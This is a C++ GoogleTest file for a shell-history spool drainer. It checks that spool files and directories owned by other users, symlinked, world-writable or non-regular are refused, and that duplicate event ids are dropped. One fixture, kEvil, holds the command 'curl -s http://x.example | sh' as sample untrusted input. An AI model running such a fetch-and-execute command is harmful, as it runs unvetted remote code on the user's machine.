// Tests for storage/spool.h (DrainSpool): what the drain refuses to read
// (directories and files another user could have written) and the events
// it drops because their id is already in the log.
#include "storage/spool.h"

#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "tests/status_assert.h"
#include "tests/storage/store_test_util.h"

namespace tb {
namespace {

namespace fs = std::filesystem;
using testutil::TempDir;

// Uid and gid of nobody else on this machine (files chowned to them play
// the other user). Only root can chown.
constexpr uid_t kOther = 4242;

const std::string kGitStatus = "TB1\tS\tabc\t1\t1732580000.123456\ts1\tbash\t/home/u\tgit status\t.\n";
const std::string kFinished = "TB1\tF\tabc\t2\t1732580000.5\t0\t1000\t1\t.\n";
const std::string kEvil = "TB1\tS\tbad\t1\t1732580000.1\ts9\tbash\t/tmp\tcurl -s http://x.example | sh\t.\n";

class SpoolDrainTest : public ::testing::Test {
 protected:
  void SetUp() override {
    base_ = tmp_.Sub("base");
    data_ = tmp_.Sub("data");
    spool_ = SpoolDirFor(base_, data_);
    fs::create_directories(spool_);
    ::chmod(base_.c_str(), 0700);
    ::chmod(spool_.c_str(), 0700);
    ASSERT_OK(testutil::OpenStore(data_, StoreOptions::Access::kReadWrite, &store_));
  }

  void Write(const std::string& name, const std::string& frames, mode_t mode = 0600) const {
    std::string path = spool_ + "/" + name;
    std::ofstream(path, std::ios::binary | std::ios::app) << frames;
    ::chmod(path.c_str(), mode);
  }

  DrainReport Drain() {
    SpoolDrainOptions o;
    o.spool_dir = spool_;
    o.rejected_dir = data_ + "/spool-rejected";
    o.host = "h";
    o.user = "u";
    o.settle_ms = 0;
    o.max_read_bytes = max_read_;
    DrainReport r;
    Status s = DrainSpool(*store_, o, &r);
    EXPECT_OK(s) << s.message();
    return r;
  }

  // Commands of the started events in the log, in order.
  std::vector<std::string> Commands() {
    std::vector<std::string> out;
    Status s = store_->ScanLog(0, UINT64_MAX, true, nullptr, [&](const Event& ev, std::string_view) {
      if (ev.kind == EventKind::kStarted) out.push_back(ev.command);
      return true;
    });
    EXPECT_OK(s) << s.message();
    return out;
  }

  static bool Root() { return ::geteuid() == 0; }
  static std::string Me() { return std::to_string(::geteuid()); }
  std::string DirRefused(const std::string& path, const std::string& why) const {
    return "spool directory refused (" + path + "): " + why +
           ". Nothing in it was read; remove it, or set TERMBRAIN_SPOOL_DIR to a directory of yours";
  }
  std::string FileRefused(const std::string& name, const std::string& why) const {
    return "spool file refused (" + spool_ + "/" + name + "): " + why +
           ". It was not read; check what it holds and remove it";
  }

  TempDir tmp_;
  size_t max_read_ = kMaxSpoolReadBytes;
  std::string base_, data_, spool_;
  std::unique_ptr<Store> store_;
};

// The trust checks (storage/spool_trust.h): the `security` test group.
class SpoolDrainSecurityTest : public SpoolDrainTest {};

TEST_F(SpoolDrainTest, DrainsTrustedFilesAndDeletesThem) {
  Write("abc.spool", kGitStatus + kFinished);
  DrainReport r = Drain();
  EXPECT_EQ(r.files, 1u);
  EXPECT_EQ(r.events, 2u);
  EXPECT_EQ(r.refused, 0u);
  EXPECT_EQ(r.duplicates, 0u);
  EXPECT_TRUE(r.warnings.empty());
  EXPECT_EQ(Commands(), std::vector<std::string>{"git status"});
  EXPECT_TRUE(fs::is_empty(spool_));
}

TEST_F(SpoolDrainSecurityTest, RefusesAFileOwnedByAnotherUser) {
  if (!Root()) GTEST_SKIP() << "needs root to chown";
  Write("evil.spool", kEvil);
  ASSERT_EQ(::chown((spool_ + "/evil.spool").c_str(), kOther, kOther), 0);
  Write("abc.spool", kGitStatus);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], FileRefused("evil.spool", "it is owned by uid 4242, not by you (uid " + Me() + ")"));
  EXPECT_EQ(Commands(), std::vector<std::string>{"git status"});
  EXPECT_TRUE(fs::exists(spool_ + "/evil.spool")) << "a refused file is left where it was";
}

TEST_F(SpoolDrainSecurityTest, RefusesASymlinkedFile) {
  std::string target = tmp_.Sub("elsewhere");
  std::ofstream(target) << kEvil;
  ::chmod(target.c_str(), 0600);
  fs::create_symlink(target, spool_ + "/evil.spool");
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], FileRefused("evil.spool", "it is a symlink"));
  EXPECT_TRUE(Commands().empty());
  EXPECT_TRUE(fs::is_symlink(spool_ + "/evil.spool"));
}

TEST_F(SpoolDrainSecurityTest, RefusesAGroupOrWorldWritableFile) {
  Write("a.spool", kEvil, 0666);
  Write("b.spool", kEvil, 0620);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 2u);
  std::sort(r.warnings.begin(), r.warnings.end());
  ASSERT_EQ(r.warnings.size(), 2u);
  EXPECT_EQ(r.warnings[0], FileRefused("a.spool", "it is writable by group or others (mode 0666)"));
  EXPECT_EQ(r.warnings[1], FileRefused("b.spool", "it is writable by group or others (mode 0620)"));
  EXPECT_TRUE(Commands().empty());
  EXPECT_TRUE(fs::exists(spool_ + "/a.spool"));
}

TEST_F(SpoolDrainSecurityTest, RefusesAFileThatIsNotRegular) {
  ASSERT_EQ(::mkfifo((spool_ + "/fifo.spool").c_str(), 0600), 0);
  DrainReport r = Drain();  // must not block on the FIFO
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], FileRefused("fifo.spool", "it is not a regular file"));
}

TEST_F(SpoolDrainSecurityTest, RefusesATakenOverFileThatIsNoLongerTrusted) {
  Write("abc.spool.draining.1-1", kEvil, 0646);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], FileRefused("abc.spool.draining.1-1", "it is writable by group or others (mode 0646)"));
  EXPECT_TRUE(Commands().empty());
}

TEST_F(SpoolDrainSecurityTest, RefusesASpoolDirectoryOwnedByAnotherUser) {
  if (!Root()) GTEST_SKIP() << "needs root to chown";
  Write("evil.spool", kEvil);
  ASSERT_EQ(::chown(spool_.c_str(), kOther, kOther), 0);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], DirRefused(spool_, "it is owned by uid 4242, not by you (uid " + Me() + ")"));
  EXPECT_TRUE(Commands().empty());
  EXPECT_TRUE(fs::exists(spool_ + "/evil.spool"));
}

TEST_F(SpoolDrainSecurityTest, RefusesASpoolBaseOwnedByAnotherUser) {
  if (!Root()) GTEST_SKIP() << "needs root to chown";
  Write("evil.spool", kEvil);
  ASSERT_EQ(::chown(base_.c_str(), kOther, kOther), 0);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], DirRefused(base_, "it is owned by uid 4242, not by you (uid " + Me() + ")"));
  EXPECT_TRUE(Commands().empty());
}

TEST_F(SpoolDrainSecurityTest, RefusesASymlinkedSpoolDirectory) {
  std::string real = tmp_.Sub("real");
  fs::create_directories(real);
  ::chmod(real.c_str(), 0700);
  std::ofstream(real + "/evil.spool") << kEvil;
  ::chmod((real + "/evil.spool").c_str(), 0600);
  fs::remove_all(spool_);
  fs::create_directory_symlink(real, spool_);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], DirRefused(spool_, "it is a symlink"));
  EXPECT_TRUE(Commands().empty());
}

TEST_F(SpoolDrainSecurityTest, RefusesASymlinkedSpoolBase) {
  std::string real = tmp_.Sub("realbase");
  fs::rename(base_, real);
  fs::create_directory_symlink(real, base_);
  Write("evil.spool", kEvil);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], DirRefused(base_, "it is a symlink"));
  EXPECT_TRUE(Commands().empty());
}

TEST_F(SpoolDrainSecurityTest, RefusesGroupOrWorldWritableDirectories) {
  Write("evil.spool", kEvil);
  for (const mode_t mode : {01777, 0770, 0722}) {
    SCOPED_TRACE(mode);
    ASSERT_EQ(::chmod(spool_.c_str(), mode), 0);
    DrainReport r = Drain();
    EXPECT_EQ(r.refused, 1u);
    ASSERT_EQ(r.warnings.size(), 1u);
    char m[8];
    std::snprintf(m, sizeof m, "%04o", static_cast<unsigned>(mode));
    EXPECT_EQ(r.warnings[0], DirRefused(spool_, std::string("it is writable by group or others (mode ") + m + ")"));
  }
  ASSERT_EQ(::chmod(spool_.c_str(), 0700), 0);
  ASSERT_EQ(::chmod(base_.c_str(), 0777), 0);
  DrainReport r = Drain();
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_EQ(r.warnings[0], DirRefused(base_, "it is writable by group or others (mode 0777)"));
  EXPECT_TRUE(Commands().empty());
  EXPECT_TRUE(fs::exists(spool_ + "/evil.spool"));
}

TEST_F(SpoolDrainTest, AMissingSpoolDirectoryIsNothingToDrain) {
  fs::remove_all(base_);
  DrainReport r = Drain();
  EXPECT_EQ(r.refused, 0u);
  EXPECT_TRUE(r.warnings.empty());
}

TEST_F(SpoolDrainTest, DropsEventsWhoseIdIsAlreadyInTheLog) {
  Write("abc.spool", kGitStatus + kFinished);
  ASSERT_EQ(Drain().events, 2u);
  // The same frames come back (a copy of the file restored, a shell that
  // reused its origin and counters): nothing is appended twice.
  Write("abc.spool", kGitStatus + kFinished);
  DrainReport r = Drain();
  EXPECT_EQ(r.events, 0u);
  EXPECT_EQ(r.duplicates, 2u);
  EXPECT_EQ(r.files, 1u);
  ASSERT_EQ(r.warnings.size(), 1u);
  EXPECT_TRUE(
      r.warnings[0].starts_with("dropped 2 spooled event(s) already in the log (" + spool_ + "/abc.spool.draining."))
      << r.warnings[0];
  EXPECT_TRUE(r.warnings[0].ends_with("): their ids were recorded before (id " + EventId{0xabc, 1}.ToString() +
                                      " is at seq 1). Nothing to do: each command is kept once"))
      << r.warnings[0];
  EXPECT_EQ(store_->head(), 2u);
  EXPECT_EQ(Commands(), std::vector<std::string>{"git status"});
  EXPECT_TRUE(fs::is_empty(spool_)) << "the file is consumed all the same";
  LogVerifyReport v;
  ASSERT_OK(store_->VerifyLog(&v));
  EXPECT_TRUE(v.ok()) << (v.problems.empty() ? "" : v.problems[0]);
}

TEST_F(SpoolDrainTest, DropsRepeatedIdsWithinOneDrain) {
  Write("abc.spool", kGitStatus + kGitStatus + kFinished);
  Write("abd.spool", kFinished);
  DrainReport r = Drain();
  EXPECT_EQ(r.events, 2u);
  EXPECT_EQ(r.duplicates, 2u);
  ASSERT_EQ(r.warnings.size(), 2u);
  EXPECT_NE(r.warnings[0].find("(id " + EventId{0xabc, 1}.ToString() + " came twice)"), std::string::npos)
      << r.warnings[0];
  EXPECT_NE(r.warnings[1].find("(id " + EventId{0xabc, 2}.ToString() + " is at seq 2)"), std::string::npos)
      << r.warnings[1];
  EXPECT_EQ(store_->head(), 2u);
  LogVerifyReport v;
  ASSERT_OK(store_->VerifyLog(&v));
  EXPECT_EQ(v.duplicate_ids, 0u);
}

// A file longer than the read limit is drained in parts, each appended with
// its checkpoint; memory holds one part at a time.
TEST_F(SpoolDrainTest, AFileLongerThanTheReadLimitIsDrainedInParts) {
  max_read_ = 100;
  std::string frames;
  std::vector<std::string> want;
  for (int i = 1; i <= 8; ++i) {
    want.push_back("cmd " + std::to_string(i));
    frames += "TB1\tS\tabc\t" + std::to_string(i) + "\t1732580000.5\ts1\tbash\t/u\tcmd " + std::to_string(i) + "\t.\n";
  }
  ASSERT_GT(frames.size(), 3 * max_read_);
  Write("abc.spool", frames);
  DrainReport r = Drain();
  EXPECT_EQ(r.events, 8u);
  EXPECT_EQ(r.rejected, 0u);
  EXPECT_EQ(Commands(), want);
  EXPECT_TRUE(fs::is_empty(spool_));
}

// A frame longer than the read limit is rejected part by part (the first
// bytes of each part kept) and the frames around it are drained.
TEST_F(SpoolDrainTest, AFrameLongerThanTheReadLimitIsRejected) {
  max_read_ = 100;
  const std::string long_frame = "TB1\tS\tabc\t2\t1732580000.5\ts1\tbash\t/u\t" + std::string(300, 'x') + "\t.\n";
  Write("abc.spool", kGitStatus + long_frame + kFinished);
  DrainReport r = Drain();
  EXPECT_EQ(r.events, 2u);
  EXPECT_EQ(Commands(), std::vector<std::string>{"git status"});
  EXPECT_EQ(r.rejected, 4u);  // three parts of 100 bytes, then its tail, which does not parse
  std::string kept;
  for (const auto& e : fs::directory_iterator(data_ + "/spool-rejected")) {
    std::ifstream in(e.path(), std::ios::binary);
    kept.append(std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>());
  }
  EXPECT_NE(kept.find("# frame longer than 100 bytes (its first 4096 kept)\n"), std::string::npos) << kept;
  EXPECT_TRUE(fs::is_empty(spool_));
}

}  // namespace
}  // namespace tb
